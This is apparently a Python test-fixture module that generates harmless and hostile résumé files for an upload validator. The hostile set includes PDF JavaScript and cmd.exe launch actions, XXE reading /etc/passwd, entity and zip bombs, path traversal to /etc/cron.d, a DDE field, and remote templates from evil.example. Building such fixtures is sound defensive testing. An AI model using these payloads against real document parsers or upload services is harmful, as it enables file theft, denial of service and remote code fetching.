"""Résumé files for tests, harmless and hostile, made by script: no hostile byte lies in the repository."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterable, Mapping

from applicants.resumes import MAX_BYTES
from applicants.resumes.office import DOCX_MAIN, ODT_TYPE

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TEXT = b"BT /F1 12 Tf 72 720 Td (Cora Lind, five years of calls) Tj ET"


# --- PDF -----------------------------------------------------------------------------------------


def pdf(
    *,
    catalog: bytes = b"",
    page: bytes = b"",
    more: Iterable[bytes] = (),
    trailer: bytes = b"",
    content: bytes = TEXT,
    version: bytes = b"1.7",
    tail: bytes = b"",
) -> bytes:
    """A small, valid PDF of one page. Objects 1 to 5 are its own; ``more`` starts at 6."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R " + page + b" >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        stream(content),
        *more,
    ]
    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start)
    return bytes(out) + tail


def stream(data: bytes, entries: bytes = b"", *, packed: bool = False) -> bytes:
    body = zlib.compress(data) if packed else data
    filters = b"/Filter /FlateDecode " if packed else b""
    return b"<< /Length %d %s%s >>\nstream\n%s\nendstream" % (len(body), filters, entries, body)


def pdf_with_object_stream(hidden: bytes) -> bytes:
    """A PDF 1.5 with a cross-reference stream, whose object 6 (named in the catalog) lies compressed in object 7."""
    plain = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
        4: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        5: stream(TEXT, packed=True),
        7: stream(b"6 0 " + hidden, b"/Type /ObjStm /N 1 /First 4 ", packed=True),
    }
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    places: dict[int, tuple[int, int, int]] = {0: (0, 0, 65535), 6: (2, 7, 0)}
    for number, body in plain.items():
        places[number] = (1, len(out), 0)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    places[8] = (1, start, 0)
    rows = b"".join(struct.pack(">BIH", *places[number]) for number in range(9))
    out += b"8 0 obj\n%s\nendobj\n" % stream(rows, b"/Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R ", packed=True)
    out += b"startxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


def encrypted_pdf() -> bytes:
    key = b"00" * 32
    entry = b"<< /Filter /Standard /V 1 /R 2 /O <" + key + b"> /U <" + key + b"> /P -4 >>"
    return pdf(more=[entry], trailer=b"/Encrypt 6 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]")


def pdf_page_bomb() -> bytes:
    """A content stream of 200 MB of blanks in 200 kB."""
    return pdf(content=b"").replace(stream(b""), stream(b" " * 200_000_000, packed=True))


def pdf_deep() -> bytes:
    return pdf(more=[b"[" * 5_000 + b"]" * 5_000])


def pdf_loop() -> bytes:
    """Pages whose only child is themselves."""
    return pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]")


# --- zip and office ------------------------------------------------------------------------------


def archive(entries: Mapping[str, bytes] | Iterable[tuple[str | zipfile.ZipInfo, bytes]], *, stored: Iterable[str] = ()) -> bytes:
    pairs = entries.items() if isinstance(entries, Mapping) else entries
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as target:
        for name, data in pairs:
            plain = str(getattr(name, "filename", name)) in set(stored)
            target.writestr(name, data, zipfile.ZIP_STORED if plain else zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def docx_parts(
    body: str = "<w:p><w:r><w:t>Cora Lind, five years of calls</w:t></w:r></w:p>", *, main: str = DOCX_MAIN, prolog: str = ""
) -> dict[str, bytes]:
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
    )
    root = relations("officeDocument", "word/document.xml", external=False)
    document = f'<?xml version="1.0"?>{prolog}<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'
    return {"[Content_Types].xml": types.encode(), "_rels/.rels": root, "word/document.xml": document.encode()}


def docx(body: str | None = None, *, more: Mapping[str, bytes] | None = None, **options: str) -> bytes:
    parts = docx_parts(body, **options) if body is not None else docx_parts(**options)
    return archive({**parts, **(more or {})})


def relations(kind: str, target: str, *, external: bool = True) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    relation = f'<Relationship Id="r1" Type="{OFFICE_RELS}/{kind}" Target="{target}"{mode}/>'
    return f'<?xml version="1.0"?><Relationships xmlns="{RELS}">{relation}</Relationships>'.encode()


ODT_NAMES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
)
MANIFEST = (
    '<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">{}</manifest:manifest>'
)


def odt(
    body: str = "<text:h>Cora Lind</text:h><text:p>five<text:s/>years<text:tab/>of calls</text:p>",
    *,
    mimetype: bytes = ODT_TYPE,
    manifest: str = "",
    more: Mapping[str, bytes] | None = None,
    packed_mimetype: bool = False,
) -> bytes:
    inner = f"<office:body><office:text>{body}</office:text></office:body>"
    content = f'<?xml version="1.0"?><office:document-content {ODT_NAMES}>{inner}</office:document-content>'
    entries = {
        "mimetype": mimetype,
        "content.xml": content.encode(),
        "META-INF/manifest.xml": MANIFEST.format(manifest).encode(),
        **(more or {}),
    }
    return archive(entries, stored=() if packed_mimetype else ("mimetype",))


def docx_ratio_bomb() -> bytes:
    return docx(more={"word/media/a.xml": b"<a>" + b" " * 40_000_000 + b"</a>"})


def docx_total_bomb() -> bytes:
    """Each entry's ratio is modest; together they unpack to more than 50 MiB."""
    noise = bytes(range(256)) * 4_096  # 1 MiB that deflates to a few kB
    return docx(more={f"word/media/{number}.png": noise for number in range(60)})


def docx_overlapping() -> bytes:
    """Two names in the directory for the same bytes."""
    data = archive({**docx_parts(), "word/one.xml": b"<a/>", "word/two.xml": b"<b/>"})
    directory = bytearray(data)
    first = _local_offset(data, b"word/one.xml")
    place = data.rfind(b"word/two.xml") - 46
    directory[place + 42 : place + 46] = struct.pack("<I", first)
    return bytes(directory)


def docx_lying_size() -> bytes:
    """An entry that unpacks to more than its directory says."""
    data = bytearray(archive({**docx_parts(), "word/styles.xml": b"<a>" + b"x" * 100_000 + b"</a>"}))
    place = bytes(data).rfind(b"word/styles.xml") - 46
    data[place + 24 : place + 28] = struct.pack("<I", 50)
    return bytes(data)


def docx_encrypted_bit() -> bytes:
    data = bytearray(docx())
    place = bytes(data).rfind(b"word/document.xml") - 46
    data[place + 8 : place + 10] = struct.pack("<H", 1)
    return bytes(data)


def docx_symlink() -> bytes:
    link = zipfile.ZipInfo("word/link.xml")
    link.external_attr = 0o120777 << 16
    return archive([*docx_parts().items(), (link, b"/etc/passwd")])


def docx_twice() -> bytes:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return archive([*docx_parts().items(), ("word/document.xml", b"<a/>")])


def _local_offset(data: bytes, name: bytes) -> int:
    return data.find(name) - 30


BILLION_LAUGHS = (
    "<!DOCTYPE x [" + '<!ENTITY a "lol">' + "".join(f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(9)) + "]>"
)
XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'

GOOD: dict[str, tuple[str, bytes]] = {
    "a plain pdf": ("cv.pdf", pdf()),
    "an old pdf": ("Cora Lind CV 2026.11.pdf", pdf(version=b"1.3")),
    "a pdf that opens on its page": ("cv.pdf", pdf(catalog=b"/OpenAction [3 0 R /Fit]")),
    "a pdf that goes to a page when opened": ("cv.pdf", pdf(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>")),
    "a pdf with a web link": (
        "cv.pdf",
        pdf(
            page=b"/Annots [6 0 R]",
            more=[b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.org/JS/x) >> >>"],
        ),
    ),
    "a pdf with a font named AA": ("cv.pdf", pdf().replace(b"/F1 4 0 R", b"/AA 4 0 R")),
    "a pdf that speaks of scripts": ("cv.pdf", pdf(content=b"BT /F1 12 Tf 72 720 Td (I write <script> and /JavaScript) Tj ET")),
    "a pdf with an object stream": ("cv.pdf", pdf_with_object_stream(b"<< /S /GoTo /D [3 0 R /Fit] >>")),
    "a pdf with a few bytes after its end": ("cv.pdf", pdf(tail=b"\r\n\r\n")),
    "a docx": ("cv.docx", docx()),
    "a docx with an upper-case ending": ("CV.DOCX", docx()),
    "a docx with a hyperlink": ("cv.docx", docx(more={"word/_rels/document.xml.rels": relations("hyperlink", "https://example.org")})),
    "a docx with a picture": ("cv.docx", docx(more={"word/media/image1.png": b"\x89PNG\r\n\x1a\n" + b"0" * 900})),
    "a docx with a page field": ("cv.docx", docx('<w:p><w:fldSimple w:instr=" PAGE "/><w:r><w:t>Link, embed, import</w:t></w:r></w:p>')),
    "an odt": ("cv.odt", odt()),
    "an odt with a link": ("cv.odt", odt('<text:p><text:a xlink:href="https://example.org">site</text:a></text:p>')),
    "an odt with an inner picture": (
        "cv.odt",
        odt('<text:p><draw:image xlink:href="Pictures/1.png"/></text:p>', more={"Pictures/1.png": b"\x89PNG"}),
    ),
    "an odt with empty settings": ("cv.odt", odt(more={"Configurations2/accelerator/current.xml": b""})),
    "a name in Cyrillic": ("Резюме Анны.pdf", pdf()),
    "a name with a title": ("Dr. Berg.docx", docx()),
}

BAD: dict[str, tuple[str, bytes, str]] = {
    "nothing": ("cv.pdf", b"", "empty"),
    "one byte too many": ("cv.pdf", pdf() + b"\n" * (MAX_BYTES + 1 - len(pdf())), "too_large"),
    "a program renamed": ("cv.pdf", b"MZ\x90\x00" + b"\0" * 400, "wrong_content"),
    "a Linux program renamed": ("cv.docx", b"\x7fELF" + b"\0" * 400, "wrong_content"),
    "a text called pdf": ("cv.pdf", b"I am a text.", "wrong_content"),
    "a page called pdf": ("cv.pdf", b"<html><script>alert(1)</script></html>", "wrong_content"),
    "a picture called pdf": ("cv.pdf", b"\x89PNG\r\n\x1a\n" + b"0" * 100, "wrong_content"),
    "a drawing called odt": ("cv.odt", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "wrong_content"),
    "the magic ten bytes late": ("cv.pdf", b"0123456789" + pdf(), "wrong_content"),
    "an old Word file": ("cv.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old_word"),
    "no ending": ("cv", pdf(), "wrong_suffix"),
    "another ending": ("cv.exe", pdf(), "wrong_suffix"),
    "a program before the ending": ("cv.exe.pdf", pdf(), "wrong_suffix"),
    "two endings": ("cv.pdf.docx", docx(), "wrong_suffix"),
    "only an ending": (".pdf", pdf(), "wrong_suffix"),
    "a page inside a pdf": ("cv.pdf", pdf().replace(b"%\xe2\xe3\xcf\xd3", b"%<html><script>alert(1)</script>"), "two_formats"),
    "an archive behind a pdf": ("cv.pdf", pdf() + archive({"a": b"b"}), "two_formats"),
    "an archive in a pdf's stream": ("cv.pdf", pdf(content=archive({"a": b"b"})), "two_formats"),
    "a long tail behind a pdf": ("cv.pdf", pdf(tail=b"A" * 2_000), "two_formats"),
    "a pdf in front of an archive": ("cv.docx", archive({"%PDF-1.7": b"x", **docx_parts()}), "two_formats"),
    "a cut pdf": ("cv.pdf", pdf()[:300], "damaged"),
    "a pdf without pages": ("cv.pdf", b"%PDF-1.4\nnothing here\n%%EOF\n", "damaged"),
    "an encrypted pdf": ("cv.pdf", encrypted_pdf(), "encrypted"),
    "a script in a pdf": ("cv.pdf", pdf(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "scripts"),
    "a script by name tree": (
        "cv.pdf",
        pdf(catalog=b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >>", more=[b"<< /S /JavaScript /JS (x) >>"]),
        "scripts",
    ),
    "a script spelled in code": ("cv.pdf", pdf(more=[b"<< /S /J#61vaScript /J#53 (x) >>"]), "scripts"),
    "a script in an object stream": ("cv.pdf", pdf_with_object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>"), "scripts"),
    "a script outside the table": ("cv.pdf", pdf(more=[b"null\nendobj\n9 0 obj\n<< /S /JavaScript >>"]), "scripts"),
    "a launch action": ("cv.pdf", pdf(page=b"/AA << /O << /S /Launch /F (cmd.exe) >> >>"), "scripts"),
    "actions on a page": ("cv.pdf", pdf(page=b"/AA << /O << /S /Named /N /Print >> >>"), "scripts"),
    "opening a web page": ("cv.pdf", pdf(catalog=b"/OpenAction << /S /URI /URI (https://example.org) >>"), "scripts"),
    "a link to a file": (
        "cv.pdf",
        pdf(page=b"/Annots [6 0 R]", more=[b"<< /Subtype /Link /A << /S /URI /URI (file:///etc/passwd) >> >>"]),
        "scripts",
    ),
    "a form in XFA": ("cv.pdf", pdf(catalog=b"/AcroForm << /XFA 6 0 R >>", more=[stream(b"<xdp/>")]), "scripts"),
    "rich media": ("cv.pdf", pdf(page=b"/Annots [6 0 R]", more=[b"<< /Type /Annot /Subtype /RichMedia >>"]), "scripts"),
    "a file in a pdf": (
        "cv.pdf",
        pdf(
            catalog=b"/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>",
            more=[b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", stream(b"MZ", b"/Type /EmbeddedFile ")],
        ),
        "attachments",
    ),
    "a bracket bomb": ("cv.pdf", pdf_deep(), "damaged too_complex"),
    "pages that hold themselves": ("cv.pdf", pdf_loop(), "damaged too_complex"),
    "a ratio bomb": ("cv.docx", docx_ratio_bomb(), "too_complex"),
    "a bomb in many parts": ("cv.docx", docx_total_bomb(), "too_complex"),
    "many entries": ("cv.docx", docx(more={f"word/media/{number}": b"" for number in range(600)}), "too_complex"),
    "overlapping entries": ("cv.docx", docx_overlapping(), "damaged"),
    "a lying size": ("cv.docx", docx_lying_size(), "damaged"),
    "a climbing name": ("cv.docx", docx(more={"../../etc/cron.d/x": b"x"}), "damaged"),
    "an absolute name": ("cv.docx", docx(more={"/etc/passwd": b"x"}), "damaged"),
    "a Windows path": ("cv.docx", docx(more={"C:\\x.dll": b"x"}), "damaged"),
    "a link out of the archive": ("cv.docx", docx_symlink(), "damaged"),
    "the same name twice": ("cv.docx", docx_twice(), "damaged"),
    "bytes behind the archive": ("cv.docx", docx() + b"A" * 100, "two_formats"),
    "a directory cut off": ("cv.docx", docx()[:-60], "damaged"),
    "an encrypted entry": ("cv.docx", docx_encrypted_bit(), "encrypted"),
    "any archive": ("cv.docx", archive({"a.txt": b"hello"}), "wrong_content"),
    "a macro file renamed": ("cv.docx", docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"), "scripts"),
    "macros inside": ("cv.docx", docx(more={"word/vbaProject.bin": b"x"}), "scripts"),
    "active controls": ("cv.docx", docx(more={"word/activeX/activeX1.xml": b"<a/>"}), "scripts"),
    "a template as document": (
        "cv.docx",
        docx(main="application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"),
        "wrong_content",
    ),
    "an embedded object": ("cv.docx", docx(more={"word/embeddings/oleObject1.bin": b"x"}), "attachments"),
    "a template from elsewhere": (
        "cv.docx",
        docx(more={"word/_rels/settings.xml.rels": relations("attachedTemplate", "https://evil.example/t.dotm")}),
        "outside_parts",
    ),
    "a picture from elsewhere": (
        "cv.docx",
        docx(more={"word/_rels/document.xml.rels": relations("image", "https://evil.example/p.png")}),
        "outside_parts",
    ),
    "a link that is a script": (
        "cv.docx",
        docx(more={"word/_rels/document.xml.rels": relations("hyperlink", "javascript:alert(1)")}),
        "scripts",
    ),
    "a field that runs": (
        "cv.docx",
        docx("<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\x</w:instrText></w:r></w:p>"),
        "outside_parts",
    ),
    "a field that fetches": (
        "cv.docx",
        docx("<w:p><w:fldSimple w:instr=' INCLUDEPICTURE \"https://evil.example/p\" '/></w:p>"),
        "outside_parts",
    ),
    "an outer entity": ("cv.docx", docx("<w:p><w:r><w:t>&e;</w:t></w:r></w:p>", prolog=XXE), "outside_parts"),
    "an entity bomb": ("cv.docx", docx("<w:p><w:r><w:t>&j;</w:t></w:r></w:p>", prolog=BILLION_LAUGHS), "outside_parts"),
    "an entity in a relation": (
        "cv.docx",
        docx(more={"word/_rels/document.xml.rels": f'<?xml version="1.0"?>{XXE}<Relationships xmlns="{RELS}"/>'.encode()}),
        "outside_parts",
    ),
    "broken xml": ("cv.docx", docx("<w:p>"), "damaged"),
    "a deep tree": ("cv.docx", docx("<w:p>" * 900 + "</w:p>" * 900), "too_complex"),
    "an odt of another type": ("cv.odt", odt(mimetype=b"application/vnd.oasis.opendocument.spreadsheet"), "wrong_content"),
    "an odt with a packed mark": ("cv.odt", odt(packed_mimetype=True), "wrong_content"),
    "a docx called odt": ("cv.odt", docx(), "wrong_content"),
    "an odt called docx": ("cv.docx", odt(), "wrong_content"),
    "an encrypted odt": ("cv.odt", odt(manifest="<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>"), "encrypted"),
    "macros in an odt": ("cv.odt", odt(more={"Basic/Standard/Module1.xml": b"<a/>"}), "scripts"),
    "an event in an odt": ("cv.odt", odt("<text:p><script:event-listener/></text:p>"), "scripts"),
    "an object in an odt": ("cv.odt", odt(more={"Object 1/content.xml": b"<a/>"}), "attachments"),
    "a picture from elsewhere in an odt": (
        "cv.odt",
        odt('<text:p><draw:image xlink:href="https://evil.example/p.png"/></text:p>'),
        "outside_parts",
    ),
    "a script link in an odt": ("cv.odt", odt('<text:p><text:a xlink:href="vnd.sun.star.script:x">a</text:a></text:p>'), "scripts"),
    "an outer entity in an odt": ("cv.odt", odt(more={"styles.xml": f'<?xml version="1.0"?>{XXE}<a/>'.encode()}), "outside_parts"),
}
